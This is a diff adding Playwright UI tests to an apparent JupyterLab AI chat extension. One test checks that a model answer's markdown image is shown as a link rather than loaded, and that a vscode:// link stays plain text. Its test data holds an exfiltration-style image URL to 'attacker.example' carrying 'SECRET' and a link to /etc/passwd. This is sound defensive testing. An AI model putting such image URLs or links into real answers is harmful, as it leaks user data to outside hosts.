@@ -964,3 +964,44 @@ def test_compare_stop_stops_every_variant(page, lab, wire):
     expect(statuses).to_have_text(["cancelled", "cancelled"])
     assert len(wire.requests_to(CHAT)) == 2
     assert not page.errors, page.errors
+
+
+def set_theme(page, name: str) -> None:
+    """Switch Lab's theme with the command its Settings → Theme menu runs."""
+    page.evaluate(
+        "(name) => window.jupyterapp.commands.execute('apputils:change-theme', {theme: name})",
+        name,
+    )
+    light = "true" if name == "JupyterLab Light" else "false"
+    page.wait_for_function(f"() => document.body.dataset.jpThemeLight === '{light}'", timeout=LONG)
+    page.wait_for_timeout(500)  # the theme's stylesheet applies after the attribute flips
+
+
+def test_answer_links_images_and_indentation_as_users_see_them(page, lab, wire):
+    """Images become links (nothing loads by itself), links that launch programs stay text, and
+    an answer that starts with indented code stays a code block; light and dark screenshots."""
+    answer = (
+        "\n\n    x = 1\n    y = 2\n\n"
+        "See ![the chart](https://attacker.example/c.png?q=SECRET), "
+        "[the docs](https://example.org) and [open it](vscode://file/etc/passwd)."
+    )
+    wire.route("POST", CHAT, stream("Short plan.", answer, pause=0.005))
+    think_notebook(lab, wire, "links.ipynb")
+    open_notebook(page, "links.ipynb")
+    run_all(page)
+    wait_cell_done(page)
+    wait_state(page, "s.status.startsWith('done')")
+    out = cell(page).locator(".jp-OutputArea")
+    assert out.locator("img").count() == 0
+    assert out.locator('a[href^="vscode:"]').count() == 0
+    image_link = live(page).get_by_role("link", name="image: the chart")
+    assert image_link.get_attribute("href") == "https://attacker.example/c.png?q=SECRET"
+    assert live(page).get_by_text("[open it](vscode://file/etc/passwd)").count() == 1
+    assert live(page).locator("pre code").first.inner_text().startswith("x = 1\ny = 2")
+    shot(page, "12-links-images-light", cell(page))
+    try:
+        set_theme(page, "JupyterLab Dark")
+        shot(page, "12-links-images-dark", cell(page))
+    finally:
+        set_theme(page, "JupyterLab Light")
+    assert not page.errors, page.errors
